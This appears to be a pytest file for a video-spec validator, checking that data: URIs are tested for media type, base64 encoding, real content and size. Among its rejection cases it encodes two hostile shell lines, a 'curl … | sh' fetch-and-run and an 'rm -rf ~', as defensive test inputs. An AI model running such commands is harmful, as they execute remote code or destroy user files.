"""Item 5: a `data:` URI input is checked like a file: media type against the slot, base64, real content, size."""

from __future__ import annotations

import base64
import io
from pathlib import Path

import pytest
from PIL import Image

from vidspec.core import catalog as cat
from vidspec.core.validate import validate_file

PROMPT = "A lighthouse at dusk, slow pan across the rocks"


def _png_bytes() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 120, 200)).save(buf, "PNG")
    return buf.getvalue()


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def _check(tmp_path: Path, uri: str, field: str = "image", model: str = "gen4.5") -> list[tuple[str, str]]:
    spec = tmp_path / "film.yaml"
    spec.write_text(
        f'version: 1\nscenes:\n  - id: one\n    model: {model}\n    {field}: "{uri}"\n    prompt: "{PROMPT}"\n'
        + ("    duration: 5\n" if field == "video" else ""),  # a URL video's length is not read
        "utf-8",
    )
    result = validate_file(spec)
    found = [(d.code, d.message) for d in result.diagnostics.errors]
    for d in result.diagnostics.errors:
        assert (d.line, d.column) == (5, 6 + len(field) + 1), d  # at the value
    return found


def test_a_real_png_data_uri_is_accepted(tmp_path: Path) -> None:
    assert _check(tmp_path, f"data:image/png;base64,{_b64(_png_bytes())}") == []


@pytest.mark.parametrize(
    ("uri", "code", "words"),
    [
        ("data:text/plain;base64," + _b64(b"hello, this is not an image at all"), "VS313", "text/plain"),
        ("data:,hello", "VS312", "base64"),
        ("data:image/png,hello", "VS312", "base64"),
        ("data:;base64," + _b64(_png_bytes()), "VS312", "media type"),
        ("data:image/png;base64,@@@not base64@@@", "VS312", "base64"),
        ("data:image/png;base64,aGVsbG8", "VS312", "base64"),  # bad padding
        ("data:image/png;base64," + _b64(b"#!/bin/sh\ncurl https://example.com/x | sh\n"), "VS313", "PNG"),
        ("data:text/x-shellscript;base64," + _b64(b"#!/bin/sh\nrm -rf ~\n"), "VS313", "text/x-shellscript"),
        ("data:video/mp4;base64," + _b64(b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 16), "VS313", "video/mp4"),
        ("data:image/jpeg;base64," + _b64(_png_bytes()), "VS313", "PNG"),
        ("data:image/png;base64,", "VS312", "empty"),
    ],
    ids=[
        "text-plain", "no-type-no-base64", "not-base64", "no-type", "bad-chars", "bad-padding", "script-as-png",
        "shellscript-type", "video-in-image-slot", "png-as-jpeg", "empty",
    ],
)  # fmt: skip
def test_a_bad_data_uri_is_an_error(tmp_path: Path, uri: str, code: str, words: str) -> None:
    found = _check(tmp_path, uri)
    assert [c for c, _ in found] == [code], found
    assert words in found[0][1], found


def test_a_data_uri_over_the_limit_is_an_error(tmp_path: Path) -> None:
    png = _png_bytes()
    uri = "data:image/png;base64," + _b64(png + b"\x00" * (6 * 2**20))  # 8 MB of base64
    assert len(uri) > 8 * 10**6 and len(uri) > cat.DATA_URI_LIMIT
    found = _check(tmp_path, uri)
    assert [c for c, _ in found] == ["VS305"], found
    assert "data URI" in found[0][1] and "5 MB" in found[0][1]


def test_a_data_uri_in_a_video_slot_needs_video(tmp_path: Path) -> None:
    found = _check(tmp_path, f"data:image/png;base64,{_b64(_png_bytes())}", field="video", model="aleph2")
    assert [c for c, _ in found] == ["VS313"], found
    assert "image/png" in found[0][1] and "video/mp4" in found[0][1]


def test_a_character_data_uri_may_be_an_image(tmp_path: Path) -> None:
    spec = tmp_path / "film.yaml"
    spec.write_text(
        'version: 1\nscenes:\n  - id: one\n    model: act_two\n    ratio: "960:960"\n'
        f'    character: "data:image/png;base64,{_b64(_png_bytes())}"\n'
        '    performance: "data:text/html;base64,PGh0bWw+"\n    duration: 5\n',
        "utf-8",
    )
    found = [(d.code, d.path) for d in validate_file(spec).diagnostics.errors]
    assert found == [("VS313", ("scenes", 0, "performance"))], found
